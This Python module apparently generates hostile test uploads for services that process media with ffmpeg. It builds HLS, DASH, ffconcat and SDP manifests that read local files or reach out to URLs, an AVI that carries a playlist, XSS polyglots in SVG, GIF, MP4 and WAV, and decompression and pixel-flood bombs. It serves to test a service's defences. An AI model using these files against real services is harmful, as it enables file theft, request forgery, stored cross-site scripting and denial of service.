"""Hostile uploads, made on the spot with Python and the ffmpeg CLI: never downloaded.

Every attack here has been written up against services that run ffmpeg on
what users upload. Each generator writes one file an uploader could send and
returns its path; the first line of its docstring says what the attack is.
The files are tiny (a few hundred bytes to a few hundred KB): what makes them
dangerous is what ffmpeg does when it opens them.

Families:
- references: manifests that make a demuxer open *other* files or URLs (ffconcat,
  HLS, DASH, SDP, an HLS playlist hidden in an AVI subtitle);
- disguises: pictures and text that some demuxer turns into "video";
- bombs: a tiny file declaring a huge frame, hours of media, a thousand streams;
- polyglots: valid media whose bytes are also an HTML/SVG document.

`make_secret_media` is no attack: it is the host file the reference attacks try
to pull in, made so that it can be recognised wherever it lands (a frame of
`SECRET_RGB`, `SECRET_MARKER` in its metadata).
"""

from __future__ import annotations

import struct
import subprocess
import zlib
from pathlib import Path

FFMPEG = ["ffmpeg", "-hide_banner", "-nostdin", "-v", "error", "-y"]

SECRET_MARKER = "HOSTILE-SECRET-7f3a9c51"
SECRET_RGB = (0x12, 0xAB, 0x34)  # no test pattern has it: a frame of it came from the secret
SECRET_SIZE = (208, 112)
SECRET_SECONDS = 2.5
SCRIPT = "<script>alert(document.domain)</script>"


def _run(args: list[str]) -> None:
    subprocess.run(args, check=True, capture_output=True)


def _write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    return path


# -- the host file that the reference attacks try to read -----------------------------


def make_secret_media(path: Path) -> Path:
    """Not an attack: a private file (host or another user's) that hostile manifests try to read.

    A solid `SECRET_RGB` picture of `SECRET_SIZE` with a 1234 Hz tone for
    `SECRET_SECONDS`, `SECRET_MARKER` in its metadata. The container follows
    the suffix; `.mp4` is fragmented, as DASH expects.
    """
    path.parent.mkdir(parents=True, exist_ok=True)
    width, height = SECRET_SIZE
    colour = "0x{:02X}{:02X}{:02X}".format(*SECRET_RGB)
    args = [*FFMPEG, "-f", "lavfi", "-i", f"color=c={colour}:s={width}x{height}:r=25"]
    args += ["-f", "lavfi", "-i", "sine=frequency=1234:sample_rate=48000"]
    args += ["-t", str(SECRET_SECONDS), "-c:v", "libx264", "-preset", "ultrafast"]
    args += ["-pix_fmt", "yuv420p", "-c:a", "aac", "-b:a", "64k"]
    args += ["-metadata", f"title={SECRET_MARKER}", "-metadata", f"comment={SECRET_MARKER}"]
    if path.suffix == ".ts":
        args += ["-metadata", f"service_name={SECRET_MARKER}"]
    if path.suffix == ".mp4":
        args += ["-movflags", "+frag_keyframe+empty_moov+default_base_moof"]
    _run([*args, str(path)])
    return path


# -- references: manifests that open other files or URLs --------------------------------


def make_ffconcat(path: Path, *entries: str) -> Path:
    """ffconcat script whose `file` lines name other files: ffmpeg plays them as this upload.

    A bare name resolves beside the script, i.e. another user's upload in the
    same uploads directory (the concat demuxer's `safe` mode refuses only
    absolute paths and odd characters, not a neighbour's name).
    """
    lines = ["ffconcat version 1.0"] + [f"file {entry}" for entry in entries]
    return _write(path, "\n".join(lines) + "\n")


def make_hls_playlist(
    path: Path,
    *segments: str,
    key_uri: str | None = None,
    map_uri: str | None = None,
    byterange: str | None = None,
) -> Path:
    """HLS playlist (probed by content, no extension needed) whose URIs name local files or URLs.

    Segments may be absolute paths (`/srv/x.ts`), `file:` URLs, `concat:a|b`,
    `subfile,,start,0,end,0,,:path`, or http/https/tcp/udp URLs; `key_uri`
    adds `#EXT-X-KEY` (the AES key is fetched) and `map_uri` `#EXT-X-MAP`
    (the init section is fetched).
    """
    lines = ["#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:3", "#EXT-X-MEDIA-SEQUENCE:0"]
    if key_uri is not None:
        lines.append(f'#EXT-X-KEY:METHOD=AES-128,URI="{key_uri}",IV=0x{"00" * 16}')
    if map_uri is not None:
        lines.append(f'#EXT-X-MAP:URI="{map_uri}"')
    for segment in segments:
        lines.append(f"#EXTINF:{SECRET_SECONDS},")
        if byterange is not None:
            lines.append(f"#EXT-X-BYTERANGE:{byterange}")
        lines.append(segment)
    lines.append("#EXT-X-ENDLIST")
    return _write(path, "\n".join(lines) + "\n")


def make_hls_master(path: Path, variant: str, audio: str | None = None) -> Path:
    """HLS master playlist whose variant and `#EXT-X-MEDIA` audio URIs point elsewhere."""
    lines = ["#EXTM3U"]
    group = ""
    if audio is not None:
        lines.append(f'#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="x",DEFAULT=YES,URI="{audio}"')
        group = ',AUDIO="a"'
    lines += [f"#EXT-X-STREAM-INF:BANDWIDTH=200000{group}", variant]
    return _write(path, "\n".join(lines) + "\n")


def make_dash_manifest(path: Path, media: str) -> Path:
    """DASH MPD (libxml2 `dash` demuxer, probed by content) whose BaseURL names a file or URL."""
    width, height = SECRET_SIZE
    mpd = f"""<?xml version="1.0" encoding="utf-8"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
     profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"
     mediaPresentationDuration="PT{SECRET_SECONDS}S" minBufferTime="PT1S">
  <Period>
    <AdaptationSet mimeType="video/mp4">
      <Representation id="1" bandwidth="200000" width="{width}" height="{height}">
        <BaseURL>{media}</BaseURL>
      </Representation>
    </AdaptationSet>
  </Period>
</MPD>
"""
    return _write(path, mpd)


def make_sdp(path: Path, host: str, port: int) -> Path:
    """SDP session description: the `sdp` demuxer opens RTP/UDP sockets to the address it names."""
    sdp = (
        "v=0\r\n"
        f"o=- 0 0 IN IP4 {host}\r\n"
        "s=hostile\r\n"
        f"c=IN IP4 {host}\r\n"
        "t=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\n"
        "a=rtpmap:96 H264/90000\r\n"
    )
    return _write(path, sdp)


def _riff_chunk(fourcc: bytes, data: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")


def _riff_list(kind: bytes, body: bytes) -> bytes:
    return b"LIST" + struct.pack("<I", len(body) + 4) + kind + body


def make_avi_gab2_playlist(path: Path, playlist: str) -> Path:
    """AVI whose GAB2 subtitle chunk carries an HLS playlist (2017's "AVI + HLS + XBIN" file read).

    The AVI demuxer probes what a GAB2 chunk holds and opened any demuxer for
    it; a playlist there read local files into the video. FFmpeg >= 3.3.2
    accepts only SRT/ASS inside GAB2.
    """
    payload = playlist.encode()
    title = "hostile".encode("utf-16-le") + b"\0\0"
    gab2 = b"GAB2\0" + struct.pack("<HI", 2, len(title)) + title
    gab2 += struct.pack("<HI", 4, len(payload)) + payload
    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    # strh: type, handler, flags, priority, language, initial frames, scale, rate,
    # start, length, buffer size, quality, sample size, frame rectangle.
    strh = b"txts" + struct.pack(
        "<IIHHIIIIIIII4h", 0, 0, 0, 0, 0, 1, 1, 0, 1, 0, 0xFFFFFFFF, 0, 0, 0, 0, 0
    )
    strl = _riff_list(b"strl", _riff_chunk(b"strh", strh) + _riff_chunk(b"strf", b""))
    hdrl = _riff_list(b"hdrl", _riff_chunk(b"avih", avih) + strl)
    movi = _riff_list(b"movi", _riff_chunk(b"00tx", gab2))
    idx1 = _riff_chunk(b"idx1", b"00tx" + struct.pack("<III", 0x10, 4, len(gab2)))
    body = b"AVI " + hdrl + movi + idx1
    return _write(path, b"RIFF" + struct.pack("<I", len(body)) + body)


# -- disguises: pictures and text that a demuxer turns into "video" ----------------------


def make_ppm(path: Path, side: int = 64) -> Path:
    """A PPM picture: ffprobe calls it video (`ppm_pipe`) and the pipeline publishes a ladder."""
    return _write(path, f"P6\n{side} {side}\n255\n".encode() + bytes(side * side * 3))


def make_png(path: Path, side: int = 64) -> Path:
    """A PNG picture uploaded as video (`png_pipe`)."""
    return _write(path, _png(side, side, depth=8, colour=2, rows=None))


def make_jpeg(path: Path, side: int = 64) -> Path:
    """A JPEG picture uploaded as video (`jpeg_pipe`)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", f"testsrc=size={side}x{side}", "-frames:v", "1"]
        + ["-f", "mjpeg", str(path)]
    )
    return path


def make_svg(path: Path) -> Path:
    """An SVG with a script: `svg_pipe` makes it "video"; published as-is it is stored XSS."""
    svg = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" '
        'onload="alert(document.domain)">\n'
        '  <rect width="64" height="64" fill="#c00"/>\n'
        f"  {SCRIPT}\n"
        "</svg>\n"
    )
    return _write(path, svg)


def make_xbin(path: Path, text: str = "root:x:0:0:root:/root:/bin/bash") -> Path:
    """XBIN text-mode art ("XBIN\\x1a" magic): the bintext decoder renders its characters as video.

    The 2017 exploit concatenated an XBIN header with a local file so that the
    file's text came out as frames; any text behind this header is "video".
    """
    columns, rows = 80, 25
    cells = text.encode().ljust(columns * rows, b" ")[: columns * rows]
    screen = b"".join(bytes([c, 0x07]) for c in cells)
    return _write(path, b"XBIN\x1a" + struct.pack("<HHBB", columns, rows, 16, 0) + screen)


def make_sauce_text(path: Path, text: str = "root:x:0:0:root:/root:/bin/bash\n" * 40) -> Path:
    """Text with a SAUCE trailer: the `bin` demuxer probes it by content and renders the text."""
    data = text.encode()
    sauce = b"SAUCE00" + b"hostile".ljust(35) + b"".ljust(20) + b"".ljust(20) + b"20240101"
    sauce += struct.pack("<IBBHHHHBB", len(data), 5, 80, 0, 0, 0, 0, 0, 0) + b"\0" * 22
    assert len(sauce) == 128
    return _write(path, data + b"\x1a" + sauce)


def make_ansi_text(path: Path) -> Path:
    """ANSI escape text (the `tty` demuxer's food): content probing takes it for AMR-WB audio.

    `tty` itself wants a .txt/.ans/... name, which a stored upload never has;
    what remains is that plain text probes as *some* media format at all.
    """
    lines = "".join(f"\x1b[3{i % 8}mHELLO SECRET \x1b[0m\r\n" for i in range(200))
    return _write(path, lines)


def make_gxf(path: Path) -> Path:
    """A GXF (SMPTE 360M broadcast) file: an exotic demuxer with a CVE history, not user media."""
    path.parent.mkdir(parents=True, exist_ok=True)
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", "testsrc=size=720x576:rate=25:duration=0.2"]
        + ["-c:v", "mpeg2video", "-q:v", "20", "-f", "gxf", str(path)]
    )
    return path


# -- bombs: small files that declare huge frames, hours, thousands of streams -------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def _png(width: int, height: int, depth: int, colour: int, rows: int | None) -> bytes:
    """A PNG of zeros; `rows` cuts the image data short (None: all of it)."""
    channels = {0: 1, 2: 3}[colour]
    row = b"\0" + bytes((width * channels * depth + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(height if rows is None else rows))
    body += packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def make_png_frame_mkv(path: Path, side: int = 16000) -> Path:
    """Pixel flood: one real side×side frame (a 1-bit PNG of zeros, ~30 KB) in Matroska."""
    png = _write(path.with_name(path.name + ".png"), _png(side, side, depth=1, colour=0, rows=None))
    try:
        _run([*FFMPEG, "-f", "png_pipe", "-i", str(png), "-c", "copy", "-f", "matroska", str(path)])
    finally:
        png.unlink()
    return path


def make_declared_png_mkv(path: Path, side: int = 16000) -> Path:
    """Decompression bomb: a PNG-in-MKV whose IHDR declares side×side over 100 bytes of data.

    The decoder allocates the whole frame (800 MB at 16000²) before it finds the data missing.
    """
    png = _write(path.with_name(path.name + ".png"), _png(side, side, depth=8, colour=2, rows=1))
    try:
        _run([*FFMPEG, "-f", "png_pipe", "-i", str(png), "-c", "copy", "-f", "matroska", str(path)])
    finally:
        png.unlink()
    return path


# Matroska, written by hand where ffmpeg would refuse to write the lie.
def _ebml_size(n: int) -> bytes:
    for length in range(1, 9):
        if n < (1 << (7 * length)) - 1:
            return (n | (1 << (7 * length))).to_bytes(length, "big")
    raise ValueError(n)


def _ebml(element: int, value: int | float | str | bytes | list[bytes]) -> bytes:
    if isinstance(value, bool):
        raise TypeError(value)
    if isinstance(value, int):
        payload = value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big")
    elif isinstance(value, float):
        payload = struct.pack(">d", value)
    elif isinstance(value, str):
        payload = value.encode()
    elif isinstance(value, list):
        payload = b"".join(value)
    else:
        payload = value
    return (
        element.to_bytes((element.bit_length() + 7) // 8, "big")
        + _ebml_size(len(payload))
        + payload
    )


def _matroska(
    tracks: list[list[bytes]],
    blocks: list[tuple[int, int, bytes]],
    duration_ms: float | None = None,
) -> bytes:
    """EBML header, Info, Tracks, one Cluster per (track number, time in ms, frame) block."""
    header = _ebml(
        0x1A45DFA3,
        [
            _ebml(0x4286, 1),  # EBMLVersion
            _ebml(0x42F7, 1),  # EBMLReadVersion
            _ebml(0x42F2, 4),  # EBMLMaxIDLength
            _ebml(0x42F3, 8),  # EBMLMaxSizeLength
            _ebml(0x4282, "matroska"),  # DocType
            _ebml(0x4287, 4),  # DocTypeVersion
            _ebml(0x4285, 2),  # DocTypeReadVersion
        ],
    )
    info = [_ebml(0x2AD7B1, 1_000_000), _ebml(0x4D80, "hostile"), _ebml(0x5741, "hostile")]
    if duration_ms is not None:
        info.append(_ebml(0x4489, float(duration_ms)))  # Duration, in TimecodeScale units
    entries = _ebml(0x1654AE6B, [_ebml(0xAE, track) for track in tracks])
    clusters = [
        _ebml(
            0x1F43B675,
            [
                _ebml(0xE7, at),  # Cluster Timecode
                _ebml(0xA3, _ebml_size(number) + struct.pack(">hB", 0, 0x80) + frame),
            ],
        )
        for number, at, frame in blocks
    ]
    segment = _ebml(0x18538067, [_ebml(0x1549A966, info), entries, *clusters])
    return header + segment


def _video_track(number: int, codec: str, width: int, height: int) -> list[bytes]:
    return [
        _ebml(0xD7, number),  # TrackNumber
        _ebml(0x73C5, number),  # TrackUID
        _ebml(0x83, 1),  # TrackType: video
        _ebml(0x86, codec),  # CodecID
        _ebml(0xE0, [_ebml(0xB0, width), _ebml(0xBA, height)]),  # PixelWidth, PixelHeight
    ]


def _pcm_track(number: int) -> list[bytes]:
    return [
        _ebml(0xD7, number),
        _ebml(0x73C5, number),
        _ebml(0x83, 2),  # TrackType: audio
        _ebml(0x86, "A_PCM/INT/LIT"),
        _ebml(0xE1, [_ebml(0xB5, 8000.0), _ebml(0x9F, 1), _ebml(0x6264, 16)]),
    ]


def _small_jpeg(side: int = 16) -> bytes:
    result = subprocess.run(
        [*FFMPEG, "-f", "lavfi", "-i", f"color=c=black:s={side}x{side}", "-frames:v", "1"]
        + ["-c:v", "mjpeg", "-f", "mjpeg", "-"],
        check=True,
        capture_output=True,
    )
    return result.stdout


def make_declared_jpeg_mkv(path: Path, side: int = 16000) -> Path:
    """Decompression bomb: a ~350-byte MJPEG-in-MKV whose SOF and track declare side×side."""
    jpeg = bytearray(_small_jpeg())
    at = next(i for i in range(len(jpeg) - 1) if jpeg[i] == 0xFF and jpeg[i + 1] in (0xC0, 0xC1))
    jpeg[at + 5 : at + 9] = struct.pack(">HH", side, side)  # SOF0: height, width
    blocks = [(1, 0, bytes(jpeg))]
    return _write(path, _matroska([_video_track(1, "V_MJPEG", side, side)], blocks))


def make_gif_screen_bomb(path: Path, side: int = 16000) -> Path:
    """Pixel flood in ~50 bytes: a GIF whose logical screen is side×side around a 1×1 image.

    The GIF decoder paints the whole screen: 1 GB of memory at 16000².
    """
    gif = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    gif += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00" + b"\x3b"
    return _write(path, gif)


def make_long_frame_mp4(path: Path, hours: float = 10) -> Path:
    """A 1.5 KB MP4 of one frame that lasts `hours`: a true duration, all of it to be encoded."""
    path.parent.mkdir(parents=True, exist_ok=True)
    rate = f"1/{int(hours * 3600)}"
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", f"color=c=gray:s=64x64:r={rate}", "-frames:v", "1"]
        + ["-c:v", "libx264", "-pix_fmt", "yuv420p", "-f", "mp4", str(path)]
    )
    return path


def make_long_declared_mkv(path: Path, hours: float = 10) -> Path:
    """A one-frame Matroska whose Segment Duration declares `hours`."""
    blocks = [(1, 0, _small_jpeg())]
    tracks = [_video_track(1, "V_MJPEG", 16, 16)]
    return _write(path, _matroska(tracks, blocks, duration_ms=hours * 3600 * 1000))


def make_long_declared_mp3(path: Path, hours: float = 10) -> Path:
    """A 1 s MP3 whose Xing/Info header claims `hours` worth of frames (ffprobe believes it)."""
    source = path.with_name(path.name + ".short.mp3")
    source.parent.mkdir(parents=True, exist_ok=True)
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "1"]
        + ["-c:a", "libmp3lame", "-b:a", "8k", "-f", "mp3", str(source)]
    )
    data = bytearray(source.read_bytes())
    source.unlink()
    at = max(data.find(b"Xing"), data.find(b"Info"))
    assert at > 0 and data[at + 7] & 1, "no Xing/Info header with a frame count"
    frames = int(hours * 3600 * 8000 / 576)  # MPEG-2 layer III at 8 kHz: 576 samples a frame
    data[at + 8 : at + 12] = frames.to_bytes(4, "big")
    return _write(path, bytes(data))


def make_many_streams_mkv(path: Path, count: int = 1000) -> Path:
    """A Matroska of `count` PCM audio tracks (~220 KB at 1000, ffmpeg's own max_streams)."""
    tracks = [_pcm_track(n) for n in range(1, count + 1)]
    blocks = [(n, 0, bytes(160)) for n in range(1, count + 1)]
    return _write(path, _matroska(tracks, blocks))


# -- polyglots: valid media that is also a document -------------------------------------


def _gif_with_comment(gif: bytes, comment: bytes) -> bytes:
    """Insert a GIF Comment Extension after the header (and global colour table)."""
    flags = gif[10]
    at = 13 + (3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0)
    blocks = b"".join(
        bytes([len(comment[i : i + 255])]) + comment[i : i + 255]
        for i in range(0, len(comment), 255)
    )
    return gif[:at] + b"\x21\xfe" + blocks + b"\0" + gif[at:]


def make_gif_html_polyglot(path: Path) -> Path:
    """An animated GIF that is also an HTML page: a comment block holds `<html><script>`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    plain = path.with_name(path.name + ".plain.gif")
    _run([*FFMPEG, "-f", "lavfi", "-i", "testsrc=size=96x64:rate=5:duration=1", str(plain)])
    html = f"<html><body><h1>polyglot</h1>{SCRIPT}</body></html>".encode()
    data = _gif_with_comment(plain.read_bytes(), html)
    plain.unlink()
    return _write(path, data)


def make_mp4_html_polyglot(path: Path) -> Path:
    """A playable MP4 that is also an HTML/SVG document: a top-level `free` box of markup."""
    path.parent.mkdir(parents=True, exist_ok=True)
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", "testsrc=size=160x90:rate=10:duration=1"]
        + [
            "-c:v",
            "libx264",
            "-pix_fmt",
            "yuv420p",
            "-preset",
            "ultrafast",
            "-metadata",
            f"comment={SCRIPT}",
            "-f",
            "mp4",
            str(path),
        ]
    )
    markup = (
        f'<html><body>{SCRIPT}<svg xmlns="http://www.w3.org/2000/svg" '
        'onload="alert(document.domain)"/></body></html>'
    ).encode()
    box = struct.pack(">I", 8 + len(markup)) + b"free" + markup
    with open(path, "ab") as f:
        f.write(box)
    return path


def make_wav_script_tags(path: Path, seconds: float = 1) -> Path:
    """A valid WAV whose INFO tags (title, artist, comment) are `<script>` markup."""
    path.parent.mkdir(parents=True, exist_ok=True)
    _run(
        [*FFMPEG, "-f", "lavfi", "-i", f"sine=frequency=500:duration={seconds}"]
        + [
            "-metadata",
            f"title={SCRIPT}",
            "-metadata",
            f"artist={SCRIPT}",
            "-metadata",
            f"comment={SCRIPT}",
            "-c:a",
            "pcm_s16le",
            "-f",
            "wav",
            str(path),
        ]
    )
    return path
